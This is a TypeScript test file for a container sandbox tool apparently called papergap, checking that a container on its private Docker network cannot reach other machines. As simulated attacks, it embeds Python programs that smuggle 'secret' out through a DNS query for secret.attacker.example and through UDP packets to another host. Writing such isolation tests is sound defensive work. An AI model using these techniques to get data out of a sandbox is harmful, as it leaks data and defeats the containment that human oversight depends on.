import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeEach, describe, expect, onTestFinished, test } from 'vitest';
import { addressOf, makeNetwork } from '../../src/drivers/container-network.ts';
import { removeAllOf, startContainer } from '../../src/drivers/container.ts';
import { openDocker } from '../../src/drivers/docker-client.ts';
import type { Docker } from '../../src/drivers/docker-client.ts';
import { findOnPath } from '../../src/shell/process.ts';
import { noDaemon, startDaemon } from '../support/docker/daemon.ts';
import type { Inside } from '../support/docker/daemon.ts';
import { makeLlamaImage } from '../support/docker/llama-image.ts';
import { MACHINE_ENV, TEST_CACHE } from '../support/machine-env.ts';

const signal = new AbortController().signal;
/** Where this machine's own resolver listens, as systemd-resolved, dnsmasq and unbound do at such an address. */
const RESOLVER = '127.0.0.153';

let folder: string;
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'papergap-network-'));
  onTestFinished(() => rm(folder, { recursive: true }));
});

/** What a Python program says on the network that papergap makes for a run, of a daemon in namespaces of its own. */
async function saidInContainer(
  inside: Inside,
  program: string,
  meanwhile: (docker: Docker, name: string) => Promise<void> = async () => {},
): Promise<string> {
  await using daemon = await startDaemon(inside);
  const { reference, python } = await makeLlamaImage(daemon, TEST_CACHE);
  const docker = await openDocker({ env: daemon.env, signal });
  if (!docker.ok) throw new Error(docker.faults[0]?.summary);
  const runId = `network-test-${process.pid}`;
  const name = `papergap-${runId}`;
  expect(await makeNetwork(docker.value, runId, name)).toBe(true);
  const home = join(folder, 'home');
  await mkdir(home);
  const plan = {
    ...{ name, runId, image: reference.split('@')[1] ?? '', network: name },
    ...{ reads: [], home: { from: home, to: '/own/home' } },
    launch: { command: python, args: ['-c', program], env: {} },
  };
  const container = await startContainer(docker.value, plan, signal);
  if (!container.ok) throw new Error(JSON.stringify(container.faults));
  await meanwhile(docker.value, name);
  await container.value.attached.exited;
  const said = container.value.attached.lines().join('\n');
  await removeAllOf(docker.value, runId);
  return said;
}

/** Asks for the text of a name that says something. */
const ASKS = `
import socket
asked = b'\\x12\\x34\\x01\\x00\\x00\\x01' + bytes(6) + b'\\x06secret\\x08attacker\\x07example\\x00\\x00\\x10\\x00\\x01'
said = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
said.settimeout(5)
said.sendto(asked, ('127.0.0.11', 53))
try:
    print('came', said.recv(600)[-14:], flush=True)
except OSError as error:
    print('none', error, flush=True)
`;
const QUESTION_BYTES = 29;
const TEXT = Buffer.from('come and fetch');

/** An answer to the question above. */
const answerTo = (question: Buffer): Buffer =>
  Buffer.concat([
    question.subarray(0, 2),
    Buffer.from([0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]),
    question.subarray(12, 12 + QUESTION_BYTES),
    Buffer.from([0xc0, 0x0c, 0, 16, 0, 1, 0, 0, 0, 10, 0, TEXT.length + 1, TEXT.length]),
    TEXT,
  ]);

/** Another machine: it writes down what it hears. */
const HEARS = `
import socket
at = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
at.bind(('10.77.0.2', 9999))
at.settimeout(60)
print(at.recv(100).decode(), flush=True)
`;
const SENDS = `
import socket, time
out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(4):
    try:
        out.sendto(b'secret', ('10.77.0.2', 9999))
        print('sent', flush=True)
    except OSError as error:
        print('none', error, flush=True)
    time.sleep(0.5)
`;

describe.skipIf(noDaemon !== undefined)(
  `a network of its own (${noDaemon ?? 'this machine has Docker'})`,
  () => {
    // Docker asks a resolver at a loopback address from the machine's own network, whatever the container's is.
    // attack: out of the sandbox
    test('a container says nothing to other machines by the names that it asks for', async () => {
      const resolver = createSocket('udp4');
      const heard: string[] = [];
      resolver.on('message', (question, from) => {
        heard.push(question.toString('latin1'));
        resolver.send(answerTo(question), from.port, from.address);
      });
      resolver.bind(53, RESOLVER);
      await once(resolver, 'listening');
      onTestFinished(() => void resolver.close());
      await writeFile(join(folder, 'resolv.conf'), `nameserver ${RESOLVER}\n`);
      const ready = [`mount --bind ${join(folder, 'resolv.conf')} /etc/resolv.conf`];

      const said = await saidInContainer({ namespaces: ['-m'], ready }, ASKS);

      expect(said).toMatch(/came|none/);
      expect(said).not.toContain(TEXT.toString());
      expect(heard).toEqual([]);
    });

    // Without masquerade alone, what a container sends is led on, with its own address as the sender's.
    // attack: out of the sandbox
    test.skipIf(findOnPath('ip', `${MACHINE_ENV['PATH']}:/usr/sbin:/sbin`) === undefined)(
      'a container sends nothing to other machines; where this machine is not on its network, that is a finding',
      async () => {
        const [hears, log] = [join(folder, 'hears.py'), join(folder, 'heard')];
        await writeFile(hears, HEARS);
        await writeFile(log, '');
        const python = findOnPath('python3', MACHINE_ENV['PATH']);
        const machine = `sleep 2; ip addr add 10.77.0.2/24 dev lan1; ip link set lan1 up; exec ${python} -I ${hears}`;
        const ready = [
          'ip link set lo up',
          'echo 1 >/proc/sys/net/ipv4/ip_forward',
          `unshare -n sh -c '${machine}' >${log} 2>&1 &`,
          'sleep 1',
          'ip link add lan0 type veth peer name lan1',
          'ip link set lan1 netns $!',
          'ip addr add 10.77.0.1/24 dev lan0',
          'ip link set lan0 up',
          'sleep 2',
        ];

        const said = await saidInContainer(
          { namespaces: ['-n', '-m'], ready, setsRules: true },
          SENDS,
          async (docker, name) => {
            expect(await addressOf(docker, name)).toMatchObject({
              ok: false,
              faults: [{ code: 'container-unreachable', blame: 'machine' }],
            });
          },
        );

        expect(said).toMatch(/sent|none/);
        expect(await readFile(log, 'utf8')).toBe('');
      },
    );
  },
);
